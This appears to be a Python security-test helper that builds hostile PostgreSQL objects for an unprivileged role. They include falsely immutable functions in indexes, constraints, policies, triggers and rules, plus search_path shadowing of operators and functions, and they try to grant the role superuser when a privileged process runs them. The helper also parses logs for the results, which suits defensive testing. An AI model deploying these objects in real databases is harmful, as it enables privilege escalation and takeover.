"""What a role without rights leaves for others to run: it says as whom it runs, and takes every right that it can get."""
import re

ROLE = "mallory"

# Called by everything below. Where it may do something that its author may not, it does.
TAKE_RIGHTS = """
CREATE SCHEMA hostile; GRANT USAGE ON SCHEMA hostile TO PUBLIC;
CREATE FUNCTION hostile.take(kind text) RETURNS boolean LANGUAGE plpgsql VOLATILE AS $take$
DECLARE statement text;
BEGIN
    RAISE LOG 'hostile % runs as % of %, %', kind, current_user, session_user,
        (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user);
    FOREACH statement IN ARRAY ARRAY['ALTER ROLE mallory SUPERUSER', 'GRANT postgres TO mallory', 'GRANT odoo TO mallory',
        'RESET ROLE', 'SET ROLE postgres', 'SET SESSION AUTHORIZATION postgres', 'RESET SESSION AUTHORIZATION',
        'ALTER ROLE mallory SUPERUSER', 'GRANT postgres TO mallory', 'GRANT odoo TO mallory'] LOOP
        BEGIN EXECUTE statement; EXCEPTION WHEN OTHERS THEN END;
    END LOOP;
    RETURN true;
END $take$;
CREATE FUNCTION hostile.of_row() RETURNS trigger LANGUAGE plpgsql AS $$
    BEGIN PERFORM hostile.take('trigger ' || TG_NAME); RETURN NEW; END $$;
"""

# They claim to be immutable, as index predicates and generated columns require.
CLAIMS = """
CREATE FUNCTION hostile.{name}({arguments}) RETURNS {result} LANGUAGE plpgsql IMMUTABLE AS $$
    BEGIN PERFORM hostile.take('{kind}'); RETURN {value}; END $$;
"""


def claim(name, arguments, result, value, kind):
    return CLAIMS.format(name=name, arguments=arguments, result=result, value=value, kind=kind)


FUNCTIONS = TAKE_RIGHTS + "".join([
    claim("of_index", "int", "int", "$1", "index expression"),
    claim("of_predicate", "int", "boolean", "true", "index predicate"),
    claim("of_constant", "", "boolean", "true", "index predicate without a column"),
    claim("of_check", "text", "boolean", "true", "check constraint"),
    claim("of_generated", "int", "int", "$1", "generated column"),
    claim("of_default", "", "int", "1", "default"),
    claim("of_policy", "int", "boolean", "true", "policy"),
    claim("of_domain", "text", "boolean", "true", "domain"),
    claim("of_view", "int", "boolean", "true", "view"),
])

# On a table that is the hostile role's own at that time; nothing of it is in the way of the retention.
ON_TABLE = """
CREATE INDEX hostile_expression ON {table} (hostile.of_index(id));
CREATE INDEX hostile_predicate ON {table} (create_uid) WHERE hostile.of_predicate(id);
CREATE INDEX hostile_constant ON {table} (id) WHERE hostile.of_constant();
ALTER TABLE {table} ADD CONSTRAINT hostile CHECK (hostile.of_check(channel));
ALTER TABLE {table} ADD generated int GENERATED ALWAYS AS (hostile.of_generated(create_uid)) STORED;
ALTER TABLE {table} ADD with_default int DEFAULT hostile.of_default();
CREATE DOMAIN hostile.word AS text CHECK (hostile.of_domain(VALUE));
ALTER TABLE {table} ADD word hostile.word DEFAULT 'w';
ALTER TABLE {table} ENABLE ROW LEVEL SECURITY;
CREATE POLICY hostile ON {table} USING (hostile.of_policy(id)) WITH CHECK (hostile.of_policy(id));
CREATE TRIGGER before_insert BEFORE INSERT OR UPDATE ON {table} FOR EACH ROW EXECUTE FUNCTION hostile.of_row();
CREATE TRIGGER after_insert AFTER INSERT OR UPDATE ON {table} FOR EACH ROW EXECUTE FUNCTION hostile.of_row();
CREATE RULE hostile AS ON UPDATE TO {table} DO ALSO SELECT hostile.take('rule');
"""

# What an unqualified name or operator finds where the search_path begins with the schema.
IN_SEARCH_PATH = "".join(f"""
CREATE FUNCTION {{schema}}.op_{number}({left}, {right}) RETURNS boolean LANGUAGE plpgsql AS $$
    BEGIN PERFORM hostile.take('operator {operator}'); RETURN $1 OPERATOR(pg_catalog.{operator}) $2; END $$;
CREATE OPERATOR {{schema}}.{operator} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = {{schema}}.op_{number});
""" for number, (operator, left, right) in enumerate(
    [(operator, left, right) for operator in ("<", ">", "=", "<=", ">=") for left, right in (
        ("int4", "int8"), ("int4", "int4"), ("int8", "int8"), ("timestamp", "timestamp"), ("text", "text"))])) + "".join(f"""
CREATE FUNCTION {{schema}}.{name}({arguments}) RETURNS {result} LANGUAGE plpgsql AS $$
    BEGIN PERFORM hostile.take('function {name}'); RETURN {value}; END $$;
""" for name, arguments, result, value in [
    ("now", "", "timestamptz", "pg_catalog.now()"), ("lower", "text", "text", "pg_catalog.lower($1)"),
    ("unnest", "int8[]", "int8", "$1[1]"), ("format", "text, text", "text", "$2"),
    ("pg_sequence_last_value", "regclass", "int8", "1"), ("nextval", "regclass", "int8", "7"),
    ("clock_timestamp", "", "timestamptz", "pg_catalog.now()")]) + """
CREATE TYPE {schema}.jsonb AS (a int);
CREATE FUNCTION {schema}.cast_text(text) RETURNS {schema}.jsonb LANGUAGE plpgsql AS $$
    BEGIN PERFORM hostile.take('cast'); RETURN ROW(1); END $$;
CREATE CAST (text AS {schema}.jsonb) WITH FUNCTION {schema}.cast_text(text) AS IMPLICIT;
"""

# What ALTER DATABASE ... SET by the owner, and ALTER ROLE ... SET by the role itself, can bend.
SETTINGS = {
    "search_path": "public, pg_catalog, pg_temp", "default_transaction_read_only": "'on'", "row_security": "'on'",
    "default_transaction_isolation": "'serializable'", "default_transaction_deferrable": "'on'", "statement_timeout": "'1ms'",
    "lock_timeout": "'1ms'", "idle_in_transaction_session_timeout": "'1ms'", "exit_on_error": "'on'", "DateStyle": "'German'",
    "TimeZone": "'Asia/Kathmandu'", "IntervalStyle": "'iso_8601'", "bytea_output": "'escape'", "extra_float_digits": "'-15'",
    "array_nulls": "'off'", "transform_null_equals": "'on'", "quote_all_identifiers": "'on'", "escape_string_warning": "'off'",
    "standard_conforming_strings": "'off'", "backslash_quote": "'on'", "client_encoding": "'LATIN1'", "xmloption": "'document'",
    "enable_indexscan": "'off'", "enable_seqscan": "'off'", "enable_sort": "'off'", "enable_hashagg": "'off'", "jit": "'off'",
    "work_mem": "'64kB'", "maintenance_work_mem": "'1MB'", "temp_buffers": "'800kB'", "constraint_exclusion": "'on'",
    "cursor_tuple_fraction": "'0.9'", "from_collapse_limit": "'1'", "join_collapse_limit": "'1'", "geqo_threshold": "'2'",
    "plan_cache_mode": "'force_generic_plan'", "synchronous_commit": "'off'", "check_function_bodies": "'off'",
    "client_min_messages": "'debug5'", "application_name": "'hostile'", "gin_fuzzy_search_limit": "'1'",
    "default_table_access_method": "'heap'", "lc_time": "'C'", "lc_numeric": "'C'", "lc_monetary": "'C'",
    "default_text_search_config": "'simple'",
    "vacuum_cost_delay": "'100ms'", "parallel_setup_cost": "'0'", "random_page_cost": "'1e10'",
}


def settings(cluster):
    """Those of them that this release has. Since 19 strings cannot be read in another way any more."""
    known = {name for name, in cluster.execute("SELECT name FROM pg_settings")}
    if int(cluster.execute("SHOW server_version_num")[0][0]) >= 190000:
        known.discard("standard_conforming_strings")
    return {name: value for name, value in SETTINGS.items() if name in known}


def runs(log):
    """(kind, current user, session user, is superuser, backend type) of each line of the log."""
    return [(kind, user, session, superuser == "t", backend) for backend, kind, user, session, superuser in re.findall(
        r"^([^|\n]*)\|.*LOG:  hostile (.*?) runs as (\S+) of (\S+), (\w+)$", log, re.MULTILINE)]


def has_rights(cluster):
    """What the hostile role has that it was not given."""
    return cluster.execute("SELECT rolname FROM pg_roles WHERE rolname = 'mallory' AND (rolsuper OR rolcreaterole OR rolbypassrls) "
                           "UNION ALL SELECT roleid::regrole::text FROM pg_auth_members WHERE member = 'mallory'::regrole")
